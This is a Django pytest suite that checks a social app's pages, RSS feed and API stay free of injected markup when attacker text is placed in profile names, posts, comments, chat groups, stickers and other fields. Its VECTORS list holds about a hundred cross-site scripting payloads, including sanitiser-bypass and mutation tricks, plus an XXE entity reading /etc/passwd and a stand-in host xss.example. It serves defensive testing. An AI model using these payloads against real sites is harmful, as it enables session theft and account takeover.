"""Markup of attackers in every field that others are shown: it stays words, on pages, in fragments, in feeds.

The list is made of what got past sanitisers before (mutation, foreign content, entities, broken tags); a parser
that knows nothing of ours reads the pages, which may hold only what the same page holds with harmless words.
"""

import json
import uuid
from collections import Counter
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pytest
from django.test import Client

from accounts.actions import roles
from accounts.models.lists import ListedPerson, PeopleList
from accounts.models.mutes import MutedWord
from accounts.models.people import User
from accounts.tests.factories import Cast, log_in
from chat.access import stickers
from chat.actions import links as link_actions
from chat.actions import messages as message_actions
from chat.models.conversations import Conversation
from chat.models.stickers import Sticker, StickerPack
from chat.tests.factories import make_group
from chat.tests.factories import say as say_in_group
from core import opengraph, text
from feed.actions import trends
from feed.models.comments import Comment
from feed.models.drafts import Draft
from feed.models.hidden import HiddenPost
from feed.models.mutes import MutedPost
from feed.models.polls import Poll
from feed.models.posts import Post, PostPicture
from feed.models.revisions import Revision
from feed.models.saved import Collection, SavedPost
from feed.tests.factories import make_comment, make_post, make_reaction
from moderation.models import Report
from uploads.models import LinkPreview

pytestmark = pytest.mark.django_db

MARK = "xss"
VECTORS = [
    "<script>xss()</script>", "<SCRIPT SRC=//xss.example/x.js></SCRIPT>", "<scr<script>ipt>xss()</scr</script>ipt>",
    "<script\x0c>xss()</script\x0c>", "<script/x>xss()</script>", "<svg><script>xss()</script>", "<svg/onload=xss()>",
    "<svg><script href=data:,xss() />", "<svg><a xlink:href=javascript:xss()><text y=1em>x</text></a>",
    "<svg><animate attributeName=href values=javascript:xss()>", "<svg><set onbegin=xss()>", "<svg><use href=#xss>",
    "<svg><style><img src=x onerror=xss()></style>", '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>", "<math><mi//xlink:href=data:x,xss()>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=\'xss()\'>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    '<math><annotation-xml encoding="text/html"><style><img src onerror=xss()></style>',
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    '<title><a title="</title><img src onerror=xss()>">',
    '<textarea><img title="</textarea><img src onerror=xss()>">', '<xmp><p title="</xmp><svg/onload=xss()>">',
    '<noembed><img title="</noembed><img src onerror=xss()>">',
    '<iframe><img title="</iframe><img src onerror=xss()>">', "<template><img src=x onerror=xss()></template>",
    '<select><template><style><!--</style><a rel="--></style><img src onerror=xss()>',
    "<plaintext><img src=x onerror=xss()>", "<!--><img src=x onerror=xss()>-->", "<!-- --!><img src=x onerror=xss()>",
    "<![CDATA[><img src=x onerror=xss()>]]>", "<?xml-stylesheet href=xss?><img src=x onerror=xss()>",
    "<!DOCTYPE xss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;", "<img src=x onerror=xss()>",
    '<img src="x` `<script>xss()</script>"` `>', '<img """><script>xss()</script>">',
    "<img src=x:x onerror\n=\nxss()>", '<img/src="x"/onerror=xss()//', '<img src onerror="&#120;ss()">',
    "<image src=x onerror=xss()>", "<img srcset=x onerror=xss()>", "<video><source onerror=xss()>",
    "<audio src=x onerror=xss()>", "<video poster=javascript:xss()>", "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>", "<iframe src=javascript:xss()>", "<iframe srcdoc='<script>xss()</script>'>",
    "<base href=//xss.example/>", "<link rel=stylesheet href=//xss.example>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>", "<style>@import '//xss.example';</style>",
    "<div style=background:url(//xss.example)>", "<form action=javascript:xss()><button>x</button></form>",
    "<button formaction=javascript:xss()>x</button>", "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>", "<marquee onstart=xss()>", "<body onload=xss()>",
    "<a href=javascript:xss()>x</a>", "<a href='jAvAsCrIpT&colon;xss()'>x</a>", '<a href="java\tscript:xss()">x</a>',
    '<a href="&#x6A;avascript:xss()">x</a>', "<a hx-get=/logout/ hx-trigger=load>xss</a>",
    "<div data-confirm=xss hx-on:click=xss()>", "[x](javascript:xss())", "[x](java&Tab;script:xss())",
    "[x](&#106;avascript:xss())", "[x](data:text/html,<script>xss()</script>)", "[x](vbscript:xss())",
    "[x](//xss.example/)", '[x](https://a.example/"onmouseover=xss()//)', '<https://a.example/"onmouseover="xss()>',
    "[x](<javascript:xss()>)", '![x](x"onerror="xss())', "[a](b)[x]: javascript:xss()",
    '```"><script>xss()</script>\n```', "`</code><script>xss()</script>`", '"><script>xss()</script>',
    "'><script>xss()</script>", '" onmouseover=xss() x="', "' onmouseover=xss() x='",
    "</title><script>xss()</script>", "</textarea><script>xss()</script>", "</script><script>xss()</script>",
    "--><script>xss()</script>", "]]><script>xss()</script>", "{{ xss }}{% xss %}", "${xss()}", '@xss"onclick=xss()',
    '#xss"onclick=xss()', "#x<b>xss", "&lt;script&gt;xss()&lt;/script&gt;", "&amp;lt;img src=x onerror=xss()&amp;gt;",
    "\u2028<script>xss()</script>", "\uff1cscript\uff1exss()\uff1c/script\uff1e", "\u202e<script>xss()</script>",
    "%3Cscript%3Exss()%3C/script%3E", "+ADw-script+AD4-xss()",
]  # fmt: skip
# Addresses that lead somewhere, as opposed to do something.
LEADS = ("/", "https://", "http://", "mailto:")
ADDRESSES = {"href", "src", "srcset", "action", "formaction", "poster", "data", "hx-get", "hx-post", "xlink:href"}


class Page(HTMLParser):
    """What a page is made of: how often each tag with which attributes; and every attribute that holds our mark."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.made: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.marked: set[tuple[str, str, str]] = set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.made[tag, tuple(sorted(name for name, _value in attrs))] += 1
        self.marked |= {(tag, name, value or "") for name, value in attrs if MARK in f"{name}{value}".lower()}


def say(cast: Cast, post: Post, words: str) -> None:
    """The same words everywhere; rows are written past the actions, which would refuse some."""
    User.objects.filter(pk=cast.alice.pk).update(display_name=words[:50], bio=words[:500])
    said = text.clean(f"{words}\n\nhttps://a.example/", limit=5000)
    Post.objects.filter(author=cast.alice).update(text=said, html=text.render(said))
    Post.objects.filter(author=cast.alice).exclude(warning="").update(warning=words[:200])
    Poll.objects.update(choices=[words[:100], "b"])
    Revision.objects.update(text=said, html=text.render(said), warning=words[:200])
    PostPicture.objects.filter(post=post).update(alt=words)
    Comment.objects.filter(post=post).update(text=said, html=text.render(said))
    title = opengraph.words(words, 200) or "x"
    LinkPreview.objects.update(title=title, description=words[:400], site_name=words[:80])


def shown(client: Client, post: Post) -> dict[str, Page]:
    history = f"{post.get_absolute_url()}history/"
    paths = ("/", post.get_absolute_url(), history, "/@alice/", "/@alice/media/")
    return {path: Page(client.get(path).content.decode()) for path in paths}


@pytest.mark.slow
@pytest.mark.parametrize("start", range(12))
def test_words_stay_words(start: int, cast: Cast) -> None:
    client = Client()
    log_in(client, cast.bob)
    card = LinkPreview.objects.create(url="https://a.example/", digest="x", state="ready", title="x", due_at=None)
    post = make_post(cast.alice, pictures=1, preview=card)
    make_comment(post, cast.alice)
    folded = make_post(cast.alice, pictures=1, warning="x")
    Poll.objects.create(post=folded, choices=["a", "b"], votes=[0, 0])
    Revision.objects.create(post=post, warning="x")
    say(cast, post, "harmless #words")
    harmless = shown(client, post)
    for words in VECTORS[start::12]:
        say(cast, post, words)
        for path, page in shown(client, post).items():
            where = f"{words!r} on {path}"
            only_words(page, harmless[path].made, where)
        feed = ElementTree.fromstring(client.get("/@alice/feed.xml").content)
        for html in (item.findtext("description") or "" for item in feed.iter("item")):
            only_words(Page(html), Counter(), f"{words!r} in the feed")
        answer = client.get(f"/api/v1/posts/{post.pk}")
        assert answer["Content-Type"] == "application/json"
        only_words(Page(json.loads(answer.content)["html"]), Counter(), f"{words!r} in the API")


@pytest.mark.slow
def test_words_stay_words_in_every_corner(cast: Cast) -> None:
    """Lists, forms and offices beside the pages above, with some of the list."""
    bob, mod = Client(), Client()
    log_in(bob, cast.bob)
    log_in(mod, cast.mod)
    User.objects.filter(pk=cast.mod.pk).update(is_superuser=True)
    post = make_post(cast.alice, pictures=1)
    share = make_post(cast.alice, is_share=True, shared=make_post(cast.dan))
    reply = make_comment(post, cast.alice, parent=make_comment(post, cast.dan))
    make_reaction(post, cast.alice)
    make_reaction(share, cast.dan)
    trends.recount()
    named = Collection.objects.create(owner=cast.bob, name="x")
    SavedPost.objects.create(owner=cast.bob, post=post, collection=named)
    row = PeopleList.objects.create(owner=cast.bob, name="x")
    ListedPerson.objects.create(list=row, person=cast.alice)
    draft = Draft.objects.create(author=cast.bob)
    HiddenPost.objects.create(member=cast.bob, post=make_post(cast.alice))
    MutedPost.objects.create(member=cast.bob, post=make_post(cast.alice))
    MutedWord.objects.create(muter=cast.bob, phrase="x", folded="nothing like it")
    Report.objects.create(reporter=cast.bob, member=cast.alice, kind="post", subject_id=post.pk, reason="other")
    about, mine = f"/posts/{post.pk}/", f"/saved/{named.pk}/"
    paths = (
        *("/?tab=for_you", "/explore/", "/explore/posts/", "/explore/people/", "/people/", share.get_absolute_url()),
        *(f"{about}{page}/" for page in ("why", "share", "shares", "reactions", "collection", "report")),
        *(f"/comments/{reply.pk}/thread/", "/saved/", mine, f"{mine}edit/", "/drafts/", f"/drafts/{draft.pk}/"),
        *(f"/settings/muted/{page}" for page in ("", "words/", "conversations/", "posts/", "shares/")),
        *("/lists/", f"/lists/{row.pk}/", f"/lists/{row.pk}/edit/", "/@alice/lists/", "/@alice/mute/"),
    )

    def everywhere(words: str) -> dict[str, Page]:
        say(cast, post, words)
        User.objects.filter(pk=cast.dan.pk).update(display_name=words[:50])
        said = text.clean(words, limit=5000)
        Post.objects.filter(author=cast.dan).update(text=said, html=text.render(said))
        Collection.objects.update(name=words[:60])
        PeopleList.objects.update(name=words[:50])
        MutedWord.objects.update(phrase=words[:100])
        parts = {"warning": words[:200], "poll": {"choices": [words[:100], "b"], "ends_in": None}}
        Draft.objects.update(text=said, parts=parts)
        Report.objects.update(words=words, copy=words)
        answers = {path: bob.get(path) for path in paths} | {"/site/reports/": mod.get("/site/reports/")}
        assert {path: one.status_code for path, one in answers.items() if one.status_code != 200} == {}
        return {path: Page(one.content.decode()) for path, one in answers.items()}

    harmless = everywhere("harmless #words")
    for words in VECTORS[4::14]:
        for path, page in everywhere(words).items():
            only_words(page, harmless[path].made, f"{words!r} on {path}")


@pytest.mark.slow
def test_words_of_groups_stay_words(cast: Cast) -> None:
    bob = Client()
    log_in(bob, cast.bob)
    group = make_group(cast.bob, cast.alice, cast.dan)
    say_in_group(cast.alice, group, "hello")
    code = link_actions.make_link(actor=cast.bob, conversation_id=group.pk).code
    pages = ("", "details/", "settings/", "add/", "links/", "card/", "report/")
    paths = ["/chat/", *(f"/chat/{group.pk}/{page}" for page in pages)]
    carol = Client()
    log_in(carol, cast.carol)

    def everywhere(words: str) -> dict[str, Page]:
        User.objects.filter(pk__in=[cast.alice.pk, cast.dan.pk]).update(display_name=words[:50])
        Conversation.objects.update(name=words[:80], about=words[:300])
        made = {path: Page(bob.get(path).content.decode()) for path in paths}
        return made | {"join": Page(carol.get(f"/chat/join/{code}/").content.decode())}

    harmless = everywhere("harmless words")
    for words in VECTORS[2::9]:
        for path, page in everywhere(words).items():
            only_words(page, harmless[path].made, f"{words!r} on {path}")


@pytest.mark.slow
def test_names_of_stickers_stay_words(cast: Cast) -> None:
    roles.set_role(actor=None, handle="dan", role="admin")
    bob, dan = Client(), Client()
    log_in(bob, cast.bob)
    log_in(dan, cast.dan)
    group = make_group(cast.bob, cast.alice)
    pack = StickerPack.objects.create(key="own", name="x")
    Sticker.objects.create(pack=pack, key="one", name="x")
    for reply in (None, 3):
        message_actions.send_message(
            actor=cast.alice, conversation_id=group.pk, client_id=uuid.uuid4(), sticker="own/one", reply=reply
        )
    paths = ["/chat/", *(f"/chat/{group.pk}/{page}" for page in ("", "3/", "stickers/"))]
    offices = ["/site/stickers/", "/site/stickers/own/"]

    def everywhere(words: str) -> dict[str, Page]:
        StickerPack.objects.update(name=words[:60])
        Sticker.objects.update(name=words[:60])
        stickers.forget()
        made = {path: bob.get(path) for path in paths} | {path: dan.get(path) for path in offices}
        assert {path: one.status_code for path, one in made.items() if one.status_code != 200} == {}
        return {path: Page(one.content.decode()) for path, one in made.items()}

    harmless = everywhere("harmless words")
    for words in VECTORS[3::9]:
        for path, page in everywhere(words).items():
            only_words(page, harmless[path].made, f"{words!r} on {path}")


def only_words(page: Page, harmless: Counter[Any], where: str) -> None:
    """Beyond what stands there with harmless words: what one may write, with no attribute but those of a link."""
    for tag, names in page.made - harmless:
        assert tag in text.TAGS, f"<{tag}> of {where}"
        assert set(names) <= {"href", "rel", "start"}, f"<{tag} {' '.join(names)}> of {where}"
    for tag, name, value in page.marked:
        assert name not in ADDRESSES or value.lower().startswith(LEADS), f"<{tag} {name}={value!r}> of {where}"


def test_the_list_is_long_and_would_be_noticed() -> None:
    assert len(set(VECTORS)) == len(VECTORS) >= 60
    for tag in ("<img src=x onerror=xss()>", "<a href=javascript:xss()>x</a>", "<script>xss()</script>"):
        with pytest.raises(AssertionError):
            only_words(Page(tag), Counter(), "a page")
